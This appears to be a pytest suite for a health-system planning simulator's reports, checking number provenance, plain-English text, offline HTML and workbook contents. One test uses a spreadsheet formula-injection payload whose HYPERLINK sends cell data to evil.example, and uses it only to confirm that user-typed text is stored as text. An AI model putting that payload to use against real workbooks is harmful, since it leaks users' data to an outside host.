"""Reports: every number in the story comes from the Results, the public text is plain English,
the HTML needs no network, the workbook has its sheets, and the page renders in Chromium."""

import html.parser
import os
import re
import shutil
from pathlib import Path

import pytest

import stpsim
from stpsim import plan, report, story
from stpsim.axes import BAND_STARTS, SETTINGS
from stpsim.cli import main

EXAMPLES = Path(__file__).parent.parent / "examples"


@pytest.fixture(scope="module")
def gm():
    p = plan.load(EXAMPLES / "greater_manchester.yaml")
    return stpsim.run(p.model_copy(update={"monte_carlo": p.monte_carlo.model_copy(update={"draws": 200})}))


@pytest.fixture(scope="module")
def cornwall():
    p = plan.load(EXAMPLES / "cornwall.yaml")
    return stpsim.run(p.model_copy(update={"monte_carlo": p.monte_carlo.model_copy(update={"draws": 200})}))


NUMBER = re.compile(r"£?\d+(?:,\d{3})*(?:\.\d+)?(?:bn|m| million|%)?")


def test_facts_are_the_results(gm):
    f = story.facts(gm)
    em = SETTINGS.index("emergency_admissions")
    assert f["do_nothing.emergency_admissions.last"] == pytest.approx(
        gm.do_nothing[:, -1, :, em].sum(-1).mean()
    )
    assert f["gap.do_nothing.last"] == pytest.approx(-gm.finance.system_surplus("do_nothing")[:, -1].mean())
    assert f["gap.plan.last"] == pytest.approx(-gm.finance.system_surplus("plan")[:, -1].mean())
    assert f["population.first"] == pytest.approx(gm.population[0].sum())
    assert f["plan.beds.last"] == pytest.approx(gm.capacity["beds"][:, -1].sum(-1).mean())


@pytest.fixture(scope="module")
def national(gm):
    from stpsim import rollup

    p = gm.plan
    return rollup.rollup(
        {"E54000007": ("gm", p)}, gm.draws, p.monte_carlo.seed, p.last_year, executor="serial"
    )


@pytest.mark.parametrize("audience", ["board", "public"])
@pytest.mark.parametrize("with_national", [False, True])
def test_every_number_in_the_story_is_rounded_from_the_results(gm, national, audience, with_national):
    ctx = national if with_national else None
    s = story.tell(gm, audience, ctx)
    f = story.facts(gm, ctx)
    assert ("national" in [sec.key for sec in s.sections]) == with_national
    for n in s.numbers:
        if n.kind in ("money", "count"):
            base = n.key.removesuffix(".pm")
            expected = f[n.key] if n.key in f else f[base]
            assert n.value == pytest.approx(abs(expected)), n
            parsed = story.parse_number(n.text)
            assert parsed == pytest.approx(abs(n.value), rel=0.05, abs=1.0), n
        elif n.kind == "ratio":
            last, first = n.key.split("/")
            assert n.value == pytest.approx(f[last] / f[first] - 1)
            assert n.text == story.ratio_text(n.value)
        elif n.kind in ("percent", "probability"):
            assert n.text == f"{round(100 * n.value)}%"
            if n.kind == "probability":
                assert n.value == pytest.approx(f[n.key])
        elif n.kind == "year":
            assert n.text in gm.year_labels
        elif n.kind == "age":
            assert int(n.value) in BAND_STARTS
        elif n.kind == "share":
            assert n.value == pytest.approx(f[n.key]) and n.text == f"{100 * n.value:.1f}%"
        elif n.kind == "rank":
            assert n.value == f[n.key] and n.text.startswith(str(int(n.value)))
        elif n.kind == "assumption":
            from stpsim import assumptions

            assert n.key == "assumption:provider_efficiency"
            assert n.value == pytest.approx(assumptions.value("provider_efficiency_achieved") / 100)
            assert n.text == f"{n.value * 100:g}%"
    recorded = [n.text for n in s.numbers]
    text = s.text()
    for title_line in (s.title,):
        text = text.replace(title_line, "")
    # Exact tokens, not substrings: "44" must be a recorded number, not part of "£440m".
    recorded_tokens = {t for r in recorded for t in NUMBER.findall(r)}
    for token in NUMBER.findall(text):
        assert token in recorded_tokens, f"{token!r} is not from the Results"


def test_public_text_is_plain_english(gm, cornwall):
    import textstat

    for r in (gm, cornwall):
        s = story.tell(r, "public")
        body = " ".join(p for sec in s.sections for p in sec.paragraphs)
        assert textstat.flesch_reading_ease(body) >= 60
        seen = set()
        for m in re.finditer(r"\b[A-Z][A-Z&]{1,}\b|A&E", body):
            abbr = m.group(0)
            assert abbr in story.GLOSSARY, f"unexplained abbreviation {abbr}"
            if abbr not in seen:
                assert body[m.end() :].startswith(f" ({story.GLOSSARY[abbr]})"), (
                    f"{abbr} not explained at first use"
                )
                seen.add(abbr)


def test_numbers_read_the_way_people_read_them():
    assert story.money_text(41.3e6) == "£41m"
    assert story.money_text(1.234e9) == "£1.2bn"
    assert story.count_text(6_184) == "6,200"
    assert story.count_text(2_809_931) == "2.8 million"
    assert story.ratio_text(1 / 12) == "about 1 in 12 more"
    assert story.ratio_text(-0.25) == "25% fewer"


class _Refs(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.refs, self.tags = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for k, v in attrs:
            if k in ("src", "href", "srcset", "poster", "data") and v:
                self.refs.append((tag, k, v))


def test_html_fetches_nothing_from_outside(gm, tmp_path):
    path = report.write(gm, tmp_path / "r.html")
    text = path.read_text()
    parser = _Refs()
    parser.feed(text)
    assert all(v.startswith("#") for _, _, v in parser.refs), parser.refs
    assert "link" not in parser.tags and "iframe" not in parser.tags and "img" not in parser.tags
    styles = re.findall(r"<style>(.*?)</style>", text, flags=re.S)
    assert not any("url(" in s or "@import" in s for s in styles)
    assert text.count("<script src") == 0
    for section in (
        "The people",
        "If nothing changes",
        "What the plan does",
        "Who gains and who loses",
        "How sure we are",
        "Assumptions",
        "Sources",
    ):
        assert section.lower() in text.lower()


def test_workbook_holds_the_documented_sheets(gm, tmp_path):
    import openpyxl

    path = report.write(gm, tmp_path / "r.xlsx", fmt="xlsx")
    wb = openpyxl.load_workbook(path, read_only=True)
    assert list(wb.sheetnames) == list(report.workbook.SHEETS)
    assert wb["Assumptions"].max_row > 40 and wb["Sources"].max_row > 10
    assert wb["Incentives"].max_row > 5 and wb["Organisations"].max_row > 20
    assert wb["Organisations (pivot)"].max_row > 100 and wb["Gap bridge"].max_row > 10


def test_report_command_and_compare(tmp_path, capsys):
    out = tmp_path / "cmp.html"
    assert (
        main(
            [
                "report",
                str(EXAMPLES / "greater_manchester_do_nothing.yaml"),
                str(EXAMPLES / "greater_manchester.yaml"),
                "-o",
                str(out),
                "--draws",
                "50",
            ]
        )
        == 0
    )
    text = out.read_text()
    assert "Option A" in text and "Option B" in text and "The two options compared" in text
    assert main(["report", str(EXAMPLES / "cornwall.yaml"), "--audience", "kids"]) == 2
    assert main(["report", str(EXAMPLES / "cornwall.yaml"), "--format", "pdf"]) == 2
    # A missing folder is made, as run --out makes its own (issue 20, item 5).
    assert (
        main(
            [
                "report",
                str(EXAMPLES / "cornwall.yaml"),
                "--draws",
                "20",
                "-o",
                str(tmp_path / "new" / "r.html"),
            ]
        )
        == 0
    )
    assert (tmp_path / "new" / "r.html").is_file()


def _chromium():
    chrome = shutil.which("chromium") or shutil.which("chromium-browser")
    driver = shutil.which("chromedriver")
    if not (chrome and driver):
        if os.environ.get("CI"):
            pytest.fail("CI must install Debian's chromium and chromium-driver (see .ci/run)")
        pytest.skip("chromium and chromedriver are not installed here")
    return chrome, driver


def test_report_renders_in_headless_chromium_with_its_charts_drawn(gm, tmp_path):
    chrome, driver_path = _chromium()
    os.environ.setdefault("SE_OFFLINE", "true")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.support.ui import WebDriverWait

    path = report.write(gm, tmp_path / "r.html", audience="board")
    public = report.write(gm, tmp_path / "p.html", audience="public")
    opts = webdriver.ChromeOptions()
    opts.binary_location = chrome
    for flag in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={tmp_path / 'profile'}",
        "--window-size=1200,900",
    ):
        opts.add_argument(flag)
    opts.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    drv = webdriver.Chrome(service=Service(driver_path), options=opts)
    try:
        drv.get(path.as_uri())
        count = """return Array.from(document.querySelectorAll('.js-plotly-plot')).map(
            d => d.querySelectorAll('.trace path, .trace image, .hm image, .point').length)"""
        WebDriverWait(drv, 60).until(
            lambda d: (lambda c: len(c) >= 6 and all(n > 0 for n in c))(d.execute_script(count))
        )
        drawn = drv.execute_script(count)
        assert len(drawn) >= 6 and all(n > 0 for n in drawn), drawn
        errors = [e for e in drv.get_log("browser") if e["level"] == "SEVERE"]
        assert not errors, errors
        import json

        urls = []
        for entry in drv.get_log("performance"):
            msg = json.loads(entry["message"])["message"]
            if msg["method"] == "Network.requestWillBeSent":
                urls.append(msg["params"]["request"]["url"])
        assert any(u.startswith("file:") for u in urls), "the report itself was loaded"
        fetched = [u for u in urls if u.startswith(("http:", "https:", "ws:", "wss:", "ftp:"))]
        assert not fetched, f"the report asked the network for {fetched}"
        shot = tmp_path / "report.png"
        drv.set_window_size(1200, 5000)
        drv.save_screenshot(str(shot))
        assert shot.stat().st_size > 100_000, "a page with charts drawn is not a blank screenshot"
        # The public version is shorter: its five charts (people, services, hospitals' beds, the
        # money and who holds it) are all drawn too.
        drv.get(public.as_uri())
        WebDriverWait(drv, 60).until(
            lambda d: (lambda c: len(c) >= 5 and all(n > 0 for n in c))(d.execute_script(count))
        )
    finally:
        drv.quit()


def test_report_with_national_context(tmp_path):
    out = tmp_path / "national.html"
    assert (
        main(["report", str(EXAMPLES / "cornwall.yaml"), "-o", str(out), "--draws", "20", "--national"]) == 0
    )
    text = out.read_text()
    assert "England as a whole" in text and "of the 44 footprints" in text


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'


def test_user_typed_text_in_a_workbook_is_text_never_a_formula(tmp_path):
    """Issue 20, item 1: a plan named like a formula is written to every sheet as text. The
    workbook's XML holds no formula at all, and the name reads back exactly."""
    import zipfile

    import openpyxl

    p = plan.load(EXAMPLES / "greater_manchester.yaml")
    p = p.model_copy(update={"name": HOSTILE, "monte_carlo": p.monte_carlo.model_copy(update={"draws": 20})})
    path = report.write(stpsim.run(p), tmp_path / "r.xlsx", fmt="xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert "<f>" not in z.read(name).decode("utf-8"), f"a formula in {name}"
    wb = openpyxl.load_workbook(path)
    found = [
        c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and "evil" in c.value
    ]
    assert found, "the plan's name is in the workbook"
    for c in found:
        assert c.data_type == "s" and HOSTILE in c.value
    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
